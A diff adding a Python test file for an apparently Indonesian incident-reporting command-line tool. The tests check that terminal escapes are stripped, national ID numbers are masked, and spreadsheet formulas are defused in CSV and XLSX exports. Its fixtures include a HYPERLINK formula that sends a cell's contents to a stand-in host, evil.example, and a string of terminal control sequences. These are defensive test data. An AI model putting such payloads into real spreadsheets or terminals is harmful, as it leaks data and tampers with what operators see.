@@ -1,0 +1,81 @@
+"""Hostile input and bad days: what people type must not attack the staff
+who read it, in their terminal or their spreadsheet. Real processes, as an
+operator runs them."""
+
+from __future__ import annotations
+
+import csv
+
+import openpyxl
+from sqlalchemy import update
+
+from storage.models import Incident
+from tests.conftest import BUDI, SITI, write_csv
+from tests.test_cli import payung
+
+KEY = {"PAYUNG_NIK_KEY": "k" * 40}
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
+ESCAPES = "\x1b[2J\x1b[31mdari pohon\x1b]0;pwned\x07"
+STORY = f"Jatuh {ESCAPES} sawit saat panen, NIK 1603 0245 1285 0002 ikut tertulis."
+
+
+def reported(tmp_path) -> None:
+    """A neighbour's report whose place is a formula and whose story holds
+    terminal escapes and a NIK, typed into the console chat."""
+    payung(tmp_path, "import-roster", str(write_csv(tmp_path / "roster.csv", [BUDI, SITI])), env=KEY)
+    lines = ["halo", "2", "2", SITI["nik"], "Siti Aminah", "Tetangga", "1", "kemarin", FORMULA, STORY]
+    lines += ["selesai", "081234567890", "kirim"]
+    chat = payung(tmp_path, "chat", stdin="\n".join(lines) + "\n", env=KEY)
+    assert "Nomor laporan: LK-" in chat.stdout, chat.stdout
+
+
+def test_a_report_shown_in_the_terminal_carries_no_escapes_and_no_nik(tmp_path):
+    reported(tmp_path)
+    shown = payung(tmp_path, "incidents", "show", "LK-2026-000001", env=KEY)
+    assert shown.returncode == 0, shown.stderr
+    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout and "pwned" not in shown.stdout
+    assert "Jatuh dari pohon sawit saat panen" in shown.stdout  # the words stay, the escapes go
+    assert "1603********0002 ikut tertulis" in shown.stdout and "1603 0245 1285 0002" not in shown.stdout
+
+
+def test_exports_hold_no_live_formula_no_escape_and_no_nik(tmp_path):
+    reported(tmp_path)
+    as_csv = tmp_path / "laporan.csv"  # the format comes from the extension
+    assert payung(tmp_path, "export", "incidents", "--out", str(as_csv), env=KEY).returncode == 0
+    [row] = list(csv.DictReader(as_csv.open(encoding="utf-8-sig")))
+    assert row["place"] == "'" + FORMULA
+    assert "\x1b" not in row["chronology"] and "1603********0002" in row["chronology"]
+    as_xlsx = tmp_path / "laporan.xlsx"
+    assert payung(tmp_path, "export", "incidents", "--out", str(as_xlsx), env=KEY).returncode == 0
+    sheet = openpyxl.load_workbook(as_xlsx).active
+    header = [cell.value for cell in sheet[1]]
+    place = sheet.cell(row=2, column=header.index("place") + 1)
+    assert place.value == "'" + FORMULA and place.data_type == "s"
+
+
+def test_one_report_with_a_character_a_worksheet_refuses_does_not_block_the_export(tmp_path):
+    reported(tmp_path)
+    # A report stored before text was cleaned at the channel boundary.
+    from sqlmodel import Session, create_engine
+
+    engine = create_engine(f"sqlite:///{tmp_path / 'data' / 'payung.db'}")
+    with Session(engine) as session:
+        session.exec(update(Incident).values(chronology="Jatuh\x1b[31m dari\x00 pohon \x0b sawit"))
+        session.commit()
+    engine.dispose()
+    as_xlsx = tmp_path / "laporan.xlsx"
+    exported = payung(tmp_path, "export", "incidents", "--out", str(as_xlsx), env=KEY)
+    assert exported.returncode == 0, exported.stderr
+    sheet = openpyxl.load_workbook(as_xlsx).active
+    header = [cell.value for cell in sheet[1]]
+    assert sheet.cell(row=2, column=header.index("chronology") + 1).value == "Jatuh[31m dari pohon  sawit"
+
+
+def test_an_export_file_name_says_its_format_or_the_operator_is_told(tmp_path):
+    reported(tmp_path)
+    wrong = payung(tmp_path, "export", "incidents", "--out", str(tmp_path / "laporan.txt"), env=KEY)
+    assert wrong.returncode == 1 and wrong.stderr.strip().splitlines() == [
+        f"error: --out {tmp_path / 'laporan.txt'}: name a .csv or .xlsx file, or say --format"
+    ]
+    forced = payung(tmp_path, "export", "incidents", "--out", str(tmp_path / "x.txt"), "--format", "csv", env=KEY)
+    assert forced.returncode == 0 and (tmp_path / "x.txt").read_text(encoding="utf-8-sig").startswith("reference,")
